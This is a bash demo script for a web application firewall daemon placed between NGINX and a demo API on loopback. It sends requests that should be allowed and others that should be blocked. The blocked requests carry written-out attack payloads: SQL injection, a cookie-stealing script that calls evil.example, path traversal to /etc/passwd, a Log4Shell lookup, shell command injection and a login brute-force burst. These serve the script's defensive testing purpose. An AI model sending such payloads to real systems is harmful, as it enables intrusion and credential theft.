#!/bin/bash
# Starts a demo API, NGINX in front of it and the daemon between them, all on
# loopback and all files in one temporary folder, then shows real requests
# allowed and denied. Stays up until Ctrl-C; with DEMO_ONCE=1 it ends after the
# requests, with exit status 0 only if each was answered as expected.
set -euo pipefail
here=$(cd "$(dirname "$0")/.." && pwd)
command -v nginx >/dev/null || [ -x /usr/sbin/nginx ] || "$here/scripts/need" nginx-light
command -v curl >/dev/null || "$here/scripts/need" curl
PATH=$PATH:/usr/sbin

dir=$(mktemp -d /tmp/sallyport-demo.XXXXXX)
pids=()
cleanup() {
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    for pid in "${pids[@]}"; do wait "$pid" 2>/dev/null || true; done
    rm -rf "$dir"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

free_port() { # the first port from $1 on that nothing answers on
    local port=$1
    while (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; do port=$((port + 1)); done
    echo "$port"
}
port=$(free_port "${DEMO_PORT:-8088}")
api=$(free_port "${DEMO_API_PORT:-9080}")

mkdir -p "$dir/sallyport" "$dir/state"
for f in "$here"/nginx/*.conf; do
    sed "s#/run/sallyport#$dir#g; s#/var/log/nginx#$dir#g" "$f" >"$dir/sallyport/$(basename "$f")"
done
cat >"$dir/nginx.conf" <<CONF
daemon off;
worker_processes 1;
pid $dir/nginx.pid;
error_log $dir/nginx-error.log warn;
$([ "$(id -u)" -eq 0 ] && echo "user root;")
events { worker_connections 1024; }
http {
    access_log off;
    client_body_temp_path $dir/body; proxy_temp_path $dir/proxy; fastcgi_temp_path $dir/f; uwsgi_temp_path $dir/u; scgi_temp_path $dir/s;
    include sallyport/http.conf;
    server {
        listen 127.0.0.1:$port;
        include sallyport/server.conf;
        location / { set \$sallyport_to @api; include sallyport/inline-closed.conf; }
        location @api { include sallyport/proven.conf; proxy_pass http://127.0.0.1:$api; }
    }
}
CONF
cat >"$dir/sallyport.toml" <<CONF
[server]
door = "$dir/door.sock"
access = "$dir/access.sock"
control = "$dir/control.sock"
state_dir = "$dir/state"
fail_open_log = "$dir/sallyport-open.log"

[defaults]
mode = "enforce"

[events]
store = "$dir/state/events.db"

[check.signature]
rules = ["$here/rules/*.rules"]

[[check.limit.limit]]
name = "logins"
key = ["address"]
rate = "5/1m"
match = { route = ["login"] }

[[site]]
name = "shop"
[[site.route]]
name = "login"
path = "/login"
methods = ["POST"]
CONF

"$here/build/demoapi" -listen "127.0.0.1:$api" 2>"$dir/backend.log" &
pids+=($!)
"$here/build/sallyport" serve --config "$dir/sallyport.toml" 2>"$dir/daemon.log" &
daemon=$!
pids+=("$daemon")
nginx -p "$dir" -c "$dir/nginx.conf" 2>>"$dir/nginx-error.log" &
pids+=($!)

await() { # await WHAT COMMAND...: until it works, 10 s at most
    local what=$1
    shift
    for _ in $(seq 200); do
        "$@" >/dev/null 2>&1 && return
        sleep 0.05
    done
    echo "demo: $what did not come up" >&2
    tail -n 20 "$dir/daemon.log" "$dir/nginx-error.log" >&2
    exit 1
}
await "the demo API" curl -fs "http://127.0.0.1:$api/items"
await "the daemon" test -S "$dir/control.sock"
await "NGINX" curl -s -o /dev/null "http://127.0.0.1:$port/"

base=http://127.0.0.1:$port
wrong=0
show() { # show STATUS TITLE CURL-ARGUMENTS...: one request and what came of it
    local want=$1 title=$2
    shift 2
    local got verdict=allowed
    got=$(curl -s -o "$dir/answer" -w '%{http_code}' "$@")
    case $got in 403 | 413 | 415 | 422 | 429 | 503) verdict=denied ;; esac
    printf '%-7s %s  %s' "$verdict" "$got" "$title"
    if [ "$got" != "$want" ]; then
        printf '   <-- expected %s' "$want"
        wrong=$((wrong + 1))
    fi
    printf '\n'
}
json='Content-Type: application/json'
echo "NGINX answers on $base, the backend stands behind it on 127.0.0.1:$api."
echo
show 200 "a list of items"                                "$base/items"
show 200 "one item"                                       "$base/items/2"
show 200 "a search, with an apostrophe"                   "$base/search?q=O%27Brien+and+sons"
show 201 "a comment in JSON"                              -H "$json" -d '{"text":"I select the best from the menu; drop me a line."}' "$base/comments"
show 201 "a comment of 300 KB, in chunks"                 -H "$json" -H 'Transfer-Encoding: chunked' -d @<(printf '{"text":"'; head -c 300000 /dev/zero | tr '\0' a; printf '"}') "$base/comments"
show 403 "SQL injection in the query"                     "$base/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-"
show 403 "a script in a JSON body"                        -H "$json" -d '{"text":"<script>fetch(\"//evil.example/\"+document.cookie)</script>"}' "$base/comments"
show 403 "the same, in chunks"                            -H "$json" -H 'Transfer-Encoding: chunked' -d '{"text":"<script>fetch(\"//evil.example/\"+document.cookie)</script>"}' "$base/comments"
show 403 "path traversal in a parameter"                  "$base/items?file=../../../../etc/passwd"
show 403 "a Log4Shell lookup in a header"                 -H 'User-Agent: ${jndi:ldap://evil.example/a}' "$base/items"
show 403 "a shell command in a form"                      -d 'host=127.0.0.1;cat /etc/passwd' "$base/comments"
show 401 "a wrong password (1 of 5 a minute)"             -H "$json" -d '{"user":"alice","password":"guess"}' "$base/login"
for _ in 2 3 4 5; do curl -s -o /dev/null -H "$json" -d '{"user":"alice","password":"guess"}' "$base/login"; done
show 429 "the sixth login within a minute"                -H "$json" -d '{"user":"alice","password":"guess"}' "$base/login"
echo
echo "What the backend saw, besides:"
grep -v -c 'GET /items$' "$dir/backend.log" | sed 's/$/ requests, and none of the denied ones:/'
if grep -E 'UNION|passwd' "$dir/backend.log"; then wrong=$((wrong + 1)); fi
sleep 0.5 # the store writes in batches
echo
"$here/build/sallyport" events --control "$dir/control.sock" || wrong=$((wrong + 1))
last=$("$here/build/sallyport" events --control "$dir/control.sock" --json --verdict deny | sed -n 's/.*"event.id":"\([0-9a-f]*\)".*/\1/p;s/.*"id":"\([0-9a-f]\{32\}\)".*/\1/p' | head -n 1)
if [ -n "$last" ]; then
    echo
    "$here/build/sallyport" explain --control "$dir/control.sock" "$last" || wrong=$((wrong + 1))
fi
if [ "${DEMO_ONCE:-}" ]; then
    if [ "$wrong" -gt 0 ]; then
        echo "demo: $wrong requests were not answered as expected" >&2
        tail -n 20 "$dir/daemon.log" "$dir/nginx-error.log" >&2
        exit 1
    fi
    exit 0
fi
cat <<TEXT

Try your own:   curl "$base/search?q=..."
See events:     build/sallyport events --control $dir/control.sock
Why was it so:  build/sallyport explain --control $dir/control.sock ID
Change rules:   edit $dir/sallyport.toml, then kill -HUP $daemon
Ctrl-C ends it.
TEXT
wait
